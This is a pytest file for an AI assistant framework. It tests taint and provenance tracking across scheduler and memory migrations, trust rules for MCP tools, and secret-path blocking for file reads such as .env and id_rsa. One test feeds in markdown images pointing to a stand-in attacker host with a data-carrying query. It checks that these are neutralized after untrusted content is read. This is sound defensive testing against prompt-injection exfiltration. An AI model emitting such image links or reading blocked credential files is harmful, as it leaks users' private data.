"""Provenance that outlives a run (issue 21, points 5-7): tasks in both scheduler stores and
memory entries keep their label across migrations; MCP annotations count only for trusted
servers; mcp_read_resource of file:// obeys file_read's secret rules; what a person sees."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from jarvis.scheduler.records import Task
from jarvis.scheduler.runner import task_tools, task_trust

BORN = {"tainted": True, "private": False, "run_id": "r1",
        "tainted_by": [{"call_id": "c1", "tool": "web_fetch", "reason": "page", "at": 1.0}]}


def _task(trust=None, created_by="model") -> Task:
    metadata = {"created_by": "model"} if created_by == "model" else {}
    return Task(id="t1", prompt="p", schedule_type="interval", schedule_value="3600",
                created_at=1.0, anchor=1.0, next_run=2.0, metadata=metadata, trust=trust)


def test_a_task_keeps_what_its_run_had_read_in_sqlite(tmp_path):
    from jarvis.scheduler.store import SchedulerStore

    store = SchedulerStore(tmp_path / "s.db")
    store.add_task(_task(BORN))
    again = store.get_task("t1")
    assert again.trust == BORN and again.born_tainted and again.to_dict()["born_tainted"]
    store.close()


def test_a_task_keeps_what_its_run_had_read_in_postgres(pg_url):
    from jarvis.scheduler.store_postgres import MIGRATIONS, PostgresStore

    store = PostgresStore(pg_url)
    try:
        store.add_task(_task(BORN))
        assert store.get_task("t1").trust == BORN
        assert store.schema_version == len(MIGRATIONS) >= 3
    finally:
        store.close()


def test_the_sqlite_scheduler_store_migrates_to_the_trust_column(tmp_path):
    from jarvis.scheduler.store import MIGRATIONS, SchedulerStore

    path = tmp_path / "old.db"
    import sqlite_utils

    db = sqlite_utils.Database(path)
    for migration in MIGRATIONS[:2]:  # a version-2 database, before provenance
        migration(db)
    db.conn.execute("PRAGMA user_version = 2")
    db.conn.execute("INSERT INTO tasks (id, prompt, schedule_type, schedule_value, status, "
                    "metadata) VALUES ('old', 'p', 'interval', '60', 'active', "
                    "'{\"created_by\": \"model\"}')")
    db.conn.commit()
    db.conn.close()
    store = SchedulerStore(path)
    assert store.schema_version == len(MIGRATIONS) >= 3
    old = store.get_task("old")
    assert old.trust is None and old.created_by == "model"
    store.close()
    # A model's task from before provenance was kept: its runs start tainted and private.
    trust = task_trust(old)
    assert trust.tainted and trust.private and trust.person_texts == []


def test_runs_of_tasks_start_as_their_creator_was():
    assert task_trust(_task(None, created_by="person")) is None  # the person's own words
    born = task_trust(_task(BORN))
    assert born.tainted and not born.private and "created by r1" in born.tainted_by[0]["reason"]
    clean = task_trust(_task({"tainted": False, "private": False, "run_id": "r2"}))
    assert not clean.tainted and clean.person_texts == []  # a model's prompt: not the person's
    assert task_tools(_task(None)) == [] and task_tools(_task(None, created_by="person")) is None


def test_the_memory_store_migrates_and_keeps_who_wrote_each_entry(tmp_path):
    from jarvis.memory.sqlite import SQLiteMemory

    path = tmp_path / "memory.db"
    with SQLiteMemory(path) as memory:
        memory.store("the person's note about herons", source="n")
        memory.store("a model's note about herons", source="notes.md", written_by="model",
                     provenance={"run_id": "r9"})
    # Make it look like schema 1 (no writer), as a store from before provenance.
    conn = sqlite3.connect(path)
    conn.execute("ALTER TABLE documents DROP COLUMN written_by")
    conn.execute("ALTER TABLE documents DROP COLUMN provenance")
    conn.execute("INSERT INTO documents (id, source, kind, chars, chunk_count, created_at) "
                 "VALUES ('f1', '/x/a.md', 'file', 1, 0, 0)")
    conn.execute("PRAGMA user_version = 1")
    conn.commit()
    conn.close()
    with SQLiteMemory(path) as memory:
        writers = {d["source"]: d["written_by"] for d in memory.documents()}
        assert writers == {"n": "unknown", "notes.md": "unknown", "/x/a.md": "indexed"}
        assert memory.stats()["written_by"] == {"person": 0, "indexed": 1, "model": 0,
                                                "unknown": 2}
        hits = memory.retrieve("herons")
        assert {h.citation.split(" (")[0] for h in hits} == {"unverified note labelled 'n'",
                                                             "unverified note labelled 'notes.md'"}
        assert not any(h.trusted for h in hits)


def test_mcp_annotations_count_only_for_trusted_servers():
    from jarvis.core.config import McpServerConfig
    from jarvis.mcp.cache import RemoteTool
    from jarvis.mcp.tool import provenance, requires_confirmation

    untrusted = McpServerConfig(command="x")
    trusted = McpServerConfig(command="x", trusted=True)
    reader = RemoteTool("read", annotations={"readOnlyHint": True, "openWorldHint": False})
    searcher = RemoteTool("search", annotations={"readOnlyHint": True})
    silent = RemoteTool("do")
    gentle = RemoteTool("tag", annotations={"destructiveHint": False})
    for tool in (reader, searcher, silent, gentle):
        assert requires_confirmation(untrusted, tool)
        assert provenance(untrusted, tool) == (frozenset({"private", "untrusted"}), "mcp")
    assert not requires_confirmation(trusted, reader) and not requires_confirmation(trusted,
                                                                                    gentle)
    assert requires_confirmation(trusted, silent)  # no annotations: destructive by default
    assert provenance(trusted, reader) == (frozenset({"private"}), "none")
    # Open-world says nothing about whose data comes back (a mailbox is open-world): both.
    assert provenance(trusted, searcher) == (frozenset({"private", "untrusted"}), "mcp")
    assert provenance(trusted, silent) == (frozenset({"private", "untrusted"}), "mcp")


def test_mcp_read_resource_of_a_file_obeys_the_secret_rules(tmp_path):
    from jarvis.core.config import load_config
    from jarvis.mcp.adapter import _file_outside_roots

    (tmp_path / "config.toml").write_text("[tools.file_read]\nallowed_dirs = [\".\"]\n"
                                          "allowed_secret_paths = [\"ok.pem\"]\n")
    for name in (".env", "id_rsa", "ok.pem", "notes.md"):
        (tmp_path / name).write_text("x")
    config = load_config(tmp_path / "config.toml")
    roots = [tmp_path.resolve()]
    refused = _file_outside_roots(f"file://{tmp_path / '.env'}", roots, config)
    assert refused and "secret rule" in refused and "allowed_secret_paths" in refused
    assert "secret rule" in _file_outside_roots(f"file://{tmp_path / 'id_rsa'}", roots, config)
    assert "secret rule" in _file_outside_roots(f"file://{tmp_path / 'config.toml'}", roots,
                                                config)
    assert _file_outside_roots(f"file://{tmp_path / 'notes.md'}", roots, config) is None
    assert _file_outside_roots(f"file://{tmp_path / 'ok.pem'}", roots, config) is None
    assert "outside the folders" in _file_outside_roots("file:///etc/hostname", roots, config)


def test_ors_outputs_of_a_tainted_session_have_their_images_neutralized():
    from jarvis.core.types import ToolResult
    from jarvis.server.ors import tool_output
    from jarvis.trust import RunTrust

    result = ToolResult("web_fetch", "see ![x](https://evil.example/p.png?d=1) and "
                                     "https://evil.example/next")
    trust = RunTrust()
    assert "![x](https://evil.example" in json.dumps(tool_output(result, trust))
    trust.mark_tainted("a page")
    text = tool_output(result, trust)["output"]["blocks"][0]["text"]
    assert "[image removed: x" in text and "https://evil.example/next" in text  # links stay


def test_tools_show_prints_what_a_tool_declares(cli_env):
    def show(name: str) -> str:
        out = subprocess.run([sys.executable, "-m", "jarvis.cli", "tools", "show", name],
                             env=cli_env, text=True, capture_output=True, timeout=60)
        assert out.returncode == 0, out.stderr
        return out.stdout

    assert "results: untrusted" in show("http_request")
    assert "sends data out: network" in show("http_request")
    assert "results: neutral" in show("calculator")
    assert "sends data out: none" in show("calculator")


@pytest.mark.parametrize("agent", ["orchestrator"])
def test_jarvis_ask_streams_a_tainted_answer_neutralized(tmp_path, cli_env, monkeypatch, agent):
    from trust_support import Lab, World

    from jarvis.testing import reply, tool_call

    world = World(tmp_path / "world")
    lab = Lab(tmp_path / "case", cli_env, world, monkeypatch)
    lab.in_process = False  # the real terminal-less process: what it streams to stdout
    try:
        lab.configure()
        url = lab.page_url("/p.txt")
        lab.site.pages["/p.txt"] = ("text/plain", "calm")
        image = f"![chart]({lab.attacker_url('/img')}?d=1)"
        lab.start_model([tool_call("http_request", {"url": url}),
                         reply(f"Here: {image} and {lab.attacker_url('/bare')} ok")])
        out = lab.jarvis("ask", "--agent", agent, "--tools", "http_request", f"Summarize {url}")
        assert out.returncode == 0, out.stderr
        assert out.stdout.startswith("Here: [image removed: chart; it pointed to 127[.]0[.]0[.]1]")
        assert lab.attacker_host not in out.stdout and "[trust] the run read untrusted" in out.stderr
        runs = json.loads(lab.jarvis("runs", "list", "--json").stdout)
        shown = lab.jarvis("runs", "show", runs[0]["id"]).stdout
        assert "trust:   read untrusted content: yes" in shown and "(http_request, call" in shown
    finally:
        world.close()


def test_the_starter_config_documents_egress():
    from jarvis.workspace.starter import STARTER_CONFIG

    assert "[egress]" in STARTER_CONFIG and "# trusted = false" in STARTER_CONFIG
    assert Path(__file__).resolve().parent.parent.joinpath("config.toml").read_text(
        encoding="utf-8") == STARTER_CONFIG
